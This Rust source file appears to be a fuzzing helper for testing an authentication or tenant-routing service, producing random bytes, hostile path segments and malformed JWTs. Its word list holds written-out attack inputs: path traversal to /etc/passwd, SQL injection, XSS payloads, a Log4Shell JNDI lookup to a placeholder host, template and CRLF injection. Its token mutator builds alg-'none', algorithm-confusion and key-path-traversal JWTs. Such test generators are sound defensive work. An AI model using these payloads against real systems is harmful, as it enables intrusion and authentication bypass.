//! Bytes, words and tokens that nobody should believe.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use fastrand::Rng;

pub fn pick<'a, T: ?Sized>(rng: &mut Rng, list: &[&'a T]) -> &'a T {
    list[rng.usize(..list.len())]
}

pub fn bytes(rng: &mut Rng, most: usize) -> Vec<u8> {
    let length = rng.usize(1..=most);
    (0..length).map(|_| rng.u8(..)).collect()
}

pub fn letters(rng: &mut Rng, length: usize) -> String {
    (0..length).map(|_| rng.alphanumeric()).collect()
}

const WORDS: [&str; 26] = [
    "",
    " ",
    "%",
    "%00",
    "\0",
    "\u{feff}",
    "\u{202e}txt",
    "\u{1f511}\u{1f511}",
    "null",
    "-1",
    "18446744073709551616",
    "1e309",
    "NaN",
    "{}",
    "[]",
    "{\"a\":[[[[[[[[",
    "../../../../etc/passwd",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "${jndi:ldap://contoso.example/a}",
    "{{7*7}}",
    "a\r\nSet-Cookie: b=c",
    "javascript:alert(1)",
    "https://contoso.example/",
    "00000000-0000-0000-0000-000000000000",
];

/// No identifier, secret, code, scope or token of anybody.
pub fn word(rng: &mut Rng) -> String {
    match rng.u8(..10) {
        0 => letters(rng, 2000),
        1 => letters(rng, 30),
        2 => String::from_utf8_lossy(&bytes(rng, 40)).into_owned(),
        3 => "a.".repeat(rng.usize(1..200)),
        4 => pick(rng, &WORDS).repeat(rng.usize(1..20)),
        _ => pick(rng, &WORDS).to_owned(),
    }
}

/// What stands for a tenant in a path, and for none; as it is written there.
pub fn segment(rng: &mut Rng) -> String {
    match rng.u8(..8) {
        0 => "00000000-0000-0000-0000-000000000000".to_owned(),
        1 => "nobody.contoso.example".to_owned(),
        2 => letters(rng, 300),
        3 => pick(rng, &["%FF", "%C3%28", "%", "%2", "%zz", "%00", "%2e%2e", "%252e"]).to_owned(),
        4 => pick(rng, &["{tenant}", "common;a=b", "common%20", "-", "'", "..", "."]).to_owned(),
        5 => bytes(rng, 30).iter().map(|byte| format!("%{byte:02X}")).collect(),
        6 => format!("{}-{}", letters(rng, 8), letters(rng, 4)),
        _ => "commo".to_owned(),
    }
}

fn part(json: &str) -> String {
    URL_SAFE_NO_PAD.encode(json)
}

/// A good token, made bad.
pub fn broken_token(rng: &mut Rng, good: &str) -> String {
    let parts: Vec<&str> = good.split('.').collect();
    let [header, payload, signature] = parts[..] else { return word(rng) };
    match rng.u8(..14) {
        0 => good[..rng.usize(..good.len())].to_owned(),
        1 => format!("{}.{payload}.", part("{\"alg\":\"none\",\"typ\":\"JWT\"}")),
        2 => format!("{}.{payload}.{signature}", part("{\"alg\":\"HS256\",\"typ\":\"JWT\"}")),
        3 => format!("{}.{payload}.{signature}", part("{\"alg\":\"RS256\",\"kid\":\"../../key\",\"x5t\":null}")),
        4 => format!("{header}.{}.{signature}", flipped(rng, payload)),
        5 => format!("{header}.{payload}.{}", flipped(rng, signature)),
        6 => format!("{payload}.{header}.{signature}"),
        7 => format!("{good}.{signature}"),
        8 => format!("{header}..{signature}"),
        9 => format!("{header}.{}.{signature}", part(&"[".repeat(rng.usize(1..4000)))),
        10 => format!("{}.{}.{}", letters(rng, 20), letters(rng, 200), letters(rng, 342)),
        11 => format!("{header}.{}.{signature}", part("{\"exp\":1e999,\"aud\":[],\"iss\":{},\"scp\":0}")),
        12 => format!("{header}.{}.{signature}", part("{\"aud\":\"a\",\"aud\":\"b\"}")),
        _ => ".".repeat(rng.usize(1..100)),
    }
}

/// One character is another, but not the last: its low bits may mean nothing.
fn flipped(rng: &mut Rng, text: &str) -> String {
    let at = rng.usize(..text.len() - 1);
    let mut bytes = text.as_bytes().to_vec();
    bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
    String::from_utf8(bytes).unwrap()
}
